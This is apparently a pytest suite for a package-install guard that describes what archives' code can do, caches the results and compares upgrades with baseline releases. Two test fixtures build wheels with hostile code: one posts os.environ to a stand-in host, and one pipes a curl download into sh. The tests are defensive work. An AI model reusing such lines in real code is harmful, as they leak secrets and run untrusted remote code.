"""What an archive's code does, and what it is compared with."""

from __future__ import annotations

import hashlib
import os
import sys
from dataclasses import replace
from datetime import timedelta

import pytest
from guard_records import AGE, INDEX, OLD, START, able, approval, candidate

import veln_hook.guard.archives
from support.builders import make_sdist, make_wheel
from veln_hook.archive import describe_archive, describe_tree
from veln_hook.errors import StoreError
from veln_hook.model import Confidence, Decision, Finding, Origin, Severity, Source
from veln_hook.policy.settings import CoolingPolicy, Policy
from veln_hook.signals import SignalInfo, hookimpl
from veln_hook.source import remembering
from veln_hook.source.client import Scanner
from veln_hook.source.facts import RULES, ArchiveFacts

SEND = "send-it"


class Compares:
    """A signal that finds what ``SEND`` is, and, with a baseline, whatever is new."""

    def __init__(self):
        self.contexts = []

    @hookimpl
    def veln_hook_signals(self):
        return [SignalInfo("compares", "Compares.")]

    @hookimpl
    def veln_hook_examine_archive(self, context):
        self.contexts.append(context)
        if context.facts is None:
            return
        old = {each.kind for each in context.baseline.capabilities} if context.baseline else None
        for each in context.facts.capabilities:
            if each.kind == SEND if old is None else each.kind not in old:
                yield Finding(
                    "compares", Severity.HIGH, Confidence.HIGH, f"it can {each.kind}", new=old is not None
                )


@pytest.fixture
def compares():
    return Compares()


@pytest.fixture
def check(machine, compares, monkeypatch):
    """Judge an archive in a run of its own."""
    monkeypatch.setattr(veln_hook.guard.archives, "would_hold_if_new", lambda facts: bool(facts.capabilities))

    def checking(archive, policy=None):
        guard = machine.guard(policy)
        guard.signals.register(compares, "compares")
        return guard.check_archive(archive)

    return checking


@pytest.fixture
def release(machine, tmp_path):
    """Describe a release of demo whose code can do these things."""

    def making(version, *kinds, origin=Origin.FETCHED, sdist=False, **changes):
        make = make_sdist if sdist else make_wheel
        path = make(tmp_path / version, "demo", version)
        sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
        asked = candidate(version, **{"sha256": sha256, "filename": path.name, **changes})
        machine.reader.facts[str(path)] = able(*kinds)
        return describe_archive(str(path), origin=origin, candidate=asked)

    return making


def test_signals_are_told_what_the_code_does(machine, check, compares, release):
    archive = release("1.0", SEND)
    verdict = check(archive)
    assert verdict.decision is Decision.HOLD
    assert verdict.rulings[0].finding.message == "it can send-it"
    assert compares.contexts[0].facts == able(SEND)
    assert compares.contexts[0].baseline is None
    scan = machine.store.scan(archive.sha256)
    assert (scan.project, scan.version, scan.filename) == ("demo", "1.0", archive.filename)
    assert (scan.rules, scan.decision, scan.scanned_at) == (RULES, Decision.HOLD, START)
    assert (scan.index, scan.uploaded_at) == (INDEX, START - OLD)
    assert remembering.unpack(scan.facts) == able(SEND)


@pytest.mark.parametrize("sdist", [False, True])
def test_the_same_bytes_are_read_once(machine, check, compares, release, sdist):
    archive = release("1.0", "harmless", sdist=sdist)
    assert check(archive).decision is Decision.ALLOW
    assert check(archive).decision is Decision.ALLOW
    assert len(machine.reader.read) == 1
    assert compares.contexts[0].facts == compares.contexts[-1].facts == able("harmless")


def test_a_tree_is_read_each_time(machine, check, tmp_path):
    for _ in range(2):
        check(describe_tree(str(tmp_path)))
    assert machine.reader.read == [str(tmp_path)] * 2


@pytest.mark.parametrize("origin", [Origin.BUILT, Origin.CACHED_BUILD])
def test_wheels_built_here_are_read_too(machine, check, release, origin):
    archive = replace(release("1.0", SEND, origin=origin), candidate=None)
    assert check(archive).decision is Decision.HOLD
    assert machine.store.scan(archive.sha256).index == ""


@pytest.mark.parametrize("damage", [{"rules": RULES - 1}, {"facts": b"garbage"}, {"facts": b""}])
def test_facts_by_other_rules_or_damaged_ones_are_read_again(machine, check, release, damage):
    archive = release("1.0", "harmless")
    check(archive)
    machine.store.remember_scan(replace(machine.store.scan(archive.sha256), **damage))
    machine.now += timedelta(hours=1)
    check(archive)
    assert len(machine.reader.read) == 2
    scan = machine.store.scan(archive.sha256)
    assert remembering.unpack(scan.facts) == able("harmless")
    assert scan.scanned_at == START, "it was seen then, whatever was thought of it"


HERE = sys.version_info[:2]


@pytest.mark.parametrize(
    ("facts", "read"),
    [
        (ArchiveFacts(unparsed=("demo.py",), python=(HERE[0], HERE[1] - 1)), 2),
        (ArchiveFacts(unparsed=("demo.py",)), 2),
        (ArchiveFacts(unparsed=("demo.py",), python=HERE), 1),
        (ArchiveFacts(unparsed=("demo.py",), python=(HERE[0], HERE[1] + 1)), 1),
        (ArchiveFacts(python=(HERE[0], HERE[1] - 1)), 1),
    ],
    ids=["older", "unknown", "this", "newer", "all"],
)
def test_what_an_older_python_could_not_parse_is_read_again(machine, check, release, facts, read):
    archive = release("1.0", "harmless")
    machine.reader.facts[archive.path] = facts
    check(archive)
    check(archive)
    assert len(machine.reader.read) == read


def test_what_can_not_be_read_is_held_alone_and_tried_again(machine, check, compares, release):
    archive, other = release("1.0", "harmless"), release("2.0", "harmless")
    machine.reader.facts[archive.path] = "what its code does can't be told: no reason"
    verdict = check(archive)
    assert verdict.decision is Decision.HOLD
    (ruling,) = verdict.rulings
    assert (ruling.finding.signal, ruling.finding.unverifiable) == ("archive", True)
    assert compares.contexts[-1].facts is None
    assert machine.store.scan(archive.sha256) is None
    assert list(machine.store.archive_memories([archive.sha256])) == []
    assert check(other).decision is Decision.ALLOW
    machine.reader.facts[archive.path] = able()
    assert check(archive).decision is Decision.ALLOW


# The baseline


def test_an_upgrade_is_compared_with_what_the_store_has(machine, check, compares, release):
    check(release("1.0", "open"))
    assert check(release("2.0", "open")).decision is Decision.ALLOW
    assert compares.contexts[-1].baseline == able("open")
    assert compares.contexts[-1].baseline_version == "1.0"
    assert machine.releases.asked == [{machine.store.scans("demo")[-1].sha256}], "only for the first"
    verdict = check(release("3.0", "open", "new-thing"))
    assert verdict.decision is Decision.HOLD
    assert verdict.rulings[0].finding.new


def test_code_that_could_hold_in_no_case_needs_no_baseline(machine, check, compares, release):
    check(release("1.0", "open"))
    check(release("2.0"))
    assert compares.contexts[-1].baseline is None


def test_what_is_installed_comes_first_then_the_newest(machine, check, compares, release):
    for version in ("1.0", "1.5", "3.0"):
        check(release(version, "open"))
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline_version == "1.5"
    for installed, used in (("1.0", "1.0"), ("3", "3.0"), ("0.7", "1.5"), ("2.0", "1.5"), ("odd", "1.5")):
        machine.releases.version = installed
        check(release("2.0", "open"))
        assert compares.contexts[-1].baseline_version == used, installed


def _held(machine, check, release):
    check(release("1.0", "open", SEND))


def _young(machine, check, release):
    check(release("1.0", "open", age=AGE - timedelta(seconds=1)))


def _young_by_first_sight(machine, check, release):
    check(release("1.0", "open", age=None))


def _of_another_hash(machine, check, release):
    check(release("1.0", "open", source=Source.DIRECT_URL, sha256="cd" * 32))


def _a_local_file(machine, check, release):
    check(release("1.0", "open", source=Source.LOCAL_FILE, index="", sha256=""))


def _of_another_index(machine, check, release):
    check(release("1.0", "open", index="https://elsewhere.example/simple/"))


def _of_other_rules(machine, check, release):
    archive = release("1.0", "open")
    check(archive)
    machine.store.remember_scan(replace(machine.store.scan(archive.sha256), rules=RULES + 1))


def _approval_taken_back(machine, check, release):
    archive = release("1.0", "open", SEND)
    machine.store.add_approval(approval(sha256=archive.sha256, revoked_at=None))
    assert check(archive).decision is Decision.ALLOW
    machine.store.revoke_approval(machine.store.approvals()[0].id, START)


def _odd_version(machine, check, release):
    archive = release("1.0", "open")
    check(archive)
    machine.store.remember_scan(replace(machine.store.scan(archive.sha256), version="9" * 5000))


@pytest.mark.parametrize(
    "before",
    [
        _held,
        _young,
        _young_by_first_sight,
        _of_another_hash,
        _a_local_file,
        _of_another_index,
        _of_other_rules,
        _approval_taken_back,
        _odd_version,
    ],
)
def test_what_is_no_baseline(machine, check, compares, release, before):
    before(machine, check, release)
    machine.releases.version = "1.0"
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline is None


def test_it_becomes_one_by_cooling(machine, check, compares, release):
    _young_by_first_sight(machine, check, release)
    machine.now = START + AGE
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline_version == "1.0"


def test_a_policy_without_cooling_asks_for_no_age(machine, check, compares, release):
    lax = Policy(cooling=CoolingPolicy(min_age=timedelta()))
    check(release("1.0", "open", age=timedelta()), lax)
    check(release("2.0", "open"), lax)
    assert compares.contexts[-1].baseline_version == "1.0"


def test_an_approved_release_is_a_baseline(machine, check, compares, release):
    archive = release("1.0", SEND)
    machine.store.add_approval(approval(sha256=archive.sha256))
    check(archive)
    assert check(release("2.0", SEND)).decision is Decision.ALLOW
    assert compares.contexts[-1].baseline_version == "1.0"


def test_the_same_bytes_given_as_a_file_stay_a_baseline(machine, check, compares, release):
    archive = release("1.0", "open")
    check(archive)
    local = archive.candidate._replace(source=Source.LOCAL_FILE, index="", sha256="", upload_time=None)
    check(replace(archive, candidate=local))
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline_version == "1.0"


def test_an_archive_of_no_project_or_version_has_no_baseline(machine, check, compares, release):
    check(release("1.0", "open"))
    for changes in ({"project": ""}, {"version": ""}, {"version": "odd"}):
        check(replace(release("2.0", "open"), **changes))
        assert compares.contexts[-1].baseline is None


# Fetched from the index


def test_without_a_memory_the_index_is_asked(machine, check, compares, release):
    machine.releases.fetched = release("1.0", "open")
    archive = release("2.0", "open")
    assert check(archive).decision is Decision.ALLOW
    assert compares.contexts[-1].baseline_version == "1.0"
    assert machine.releases.asked == [{archive.sha256}]
    assert check(archive).decision is Decision.ALLOW
    assert len(machine.releases.asked) == 1, "the next time it is remembered"
    assert len(machine.reader.read) == 2
    assert [record.version for record in machine.store.log()] == ["2.0", "2.0"]


def test_a_fetched_release_is_judged_by_all_it_does(machine, check, compares, release):
    machine.releases.fetched = release("1.0", SEND)
    check(release("2.0", SEND))
    assert compares.contexts[-1].baseline is None
    held = machine.releases.fetched.sha256
    assert machine.store.scan(held).decision is Decision.HOLD
    check(release("2.1", SEND))
    assert held in machine.releases.asked[-1], "it need not be fetched again"
    assert list(machine.store.archive_memories([held])) == [], "by itself it may pass, compared with another"


def _fetched_young(release):
    return release("1.0", "open", age=timedelta(minutes=1))


def _fetched_other_bytes(release):
    return release("1.0", "open", sha256="cd" * 32)


def _fetched_without_candidate(release):
    return replace(release("1.0", "open"), candidate=None)


@pytest.mark.parametrize("fetched", [_fetched_young, _fetched_other_bytes, _fetched_without_candidate])
def test_what_was_fetched_must_have_earned_it(machine, check, compares, release, fetched):
    machine.releases.fetched = fetched(release)
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline is None


def test_what_was_fetched_and_can_not_be_read_is_none(machine, check, compares, release):
    fetched = machine.releases.fetched = release("1.0", "open")
    machine.reader.facts[fetched.path] = "it is broken"
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline is None


@pytest.mark.parametrize("error", [OSError("no network"), RuntimeError("a bug")])
def test_a_failing_source_leaves_the_absolute_rules(machine, check, release, error, caplog):
    caplog.set_level("DEBUG", "veln_hook")
    machine.releases.fetched = error
    assert check(release("2.0", "open")).decision is Decision.ALLOW
    assert check(release("2.1", SEND)).decision is Decision.HOLD
    assert str(error) in caplog.text


def test_a_failing_look_at_what_is_installed_costs_nothing(machine, check, compares, release, monkeypatch):
    check(release("1.0", "open"))
    monkeypatch.setattr(machine.releases, "installed", lambda _: 1 / 0)
    check(release("2.0", "open"))
    assert compares.contexts[-1].baseline_version == "1.0"


def test_a_store_that_fails_meanwhile_is_an_error(machine, check, release):
    machine.releases.fetched = StoreError("full")
    with pytest.raises(StoreError):
        check(release("2.0", "open"))


# Packing


@pytest.mark.parametrize("facts", [able(), able("a", "b")])
def test_what_is_packed_comes_out_again(facts):
    assert remembering.unpack(remembering.pack(facts)) == facts


def test_what_is_no_facts_is_a_miss(monkeypatch):
    packed = remembering.pack(able("a"))
    for bytes_ in (b"", b"x", packed[:-1], os.urandom(50), remembering.zlib.compress(b"[1]")):
        assert remembering.unpack(bytes_) is None
        assert remembering.unpack_file(bytes_) is None
    monkeypatch.setattr(remembering, "_MAX_BYTES", 20)
    assert remembering.unpack(packed) is None


# What is read ahead


class Noting(Scanner):
    """Notes what it was asked to read ahead."""

    def __init__(self):
        super().__init__()
        self.begun = []

    def scan_ahead(self, path, sha256):
        self.begun.append((path, sha256))
        super().scan_ahead(path, sha256)


@pytest.fixture
def noting(machine):
    with Noting() as made:
        machine.reader = made
        yield made


def _read_now(path):
    with Scanner() as scanner:
        return scanner.scan(path)


def test_what_was_read_ahead_is_what_is_judged(machine, noting, tmp_path):
    evil = "import os\nimport urllib.request\nurllib.request.urlopen('https://x.test', data=repr(os.environ).encode())\n"
    guard = machine.guard()
    for name, code in (("alpha", "x = 1"), ("evil", evil)):
        path = str(make_wheel(tmp_path / name, "demo", "1.0", {"demo.py": code}))
        archive = describe_archive(path, origin=Origin.FETCHED)
        guard.read_ahead(path, archive.sha256)
        look = guard.archives.look(archive, machine.now)
        assert look.facts == _read_now(path)
        assert bool(look.facts.capabilities) == (name == "evil")
    assert len(noting.begun) == 2


def test_what_is_replaced_since_is_judged_by_what_it_is_now(machine, noting, tmp_path):
    evil = make_wheel(
        tmp_path / "b", "demo", "1.0", {"demo.py": "import os\nos.system('curl https://x.test | sh')\n"}
    )
    path = make_wheel(tmp_path / "a", "demo", "1.0", {"demo.py": "x = 1"})
    guard = machine.guard()
    guard.read_ahead(str(path), hashlib.sha256(path.read_bytes()).hexdigest())
    path.write_bytes(evil.read_bytes())
    archive = describe_archive(str(path), origin=Origin.FETCHED)
    assert guard.archives.look(archive, machine.now).facts == _read_now(str(evil))


def test_what_is_known_or_unpromised_is_not_read_ahead(machine, check, release, monkeypatch):
    archive = release("1.0")
    check(archive)
    begun = []
    monkeypatch.setattr(machine.reader, "scan_ahead", lambda *asked: begun.append(asked))
    guard = machine.guard()
    guard.read_ahead(archive.path, "")
    guard.read_ahead(archive.path, archive.sha256)
    assert begun == []
    other = release("2.0")
    guard.read_ahead(other.path, other.sha256)
    assert begun == [(other.path, other.sha256)]
    machine.store.remember_scan(replace(machine.store.scan(archive.sha256), rules=RULES - 1))
    guard.read_ahead(archive.path, archive.sha256)
    assert begun[1:] == [(archive.path, archive.sha256)], "other rules found other facts"


def test_a_store_that_fails_reads_nothing_ahead(machine, release):
    archive = release("1.0")
    guard = machine.guard()
    machine.store.close()
    guard.read_ahead(archive.path, archive.sha256)
    with pytest.raises(StoreError):
        guard.check_archive(archive)
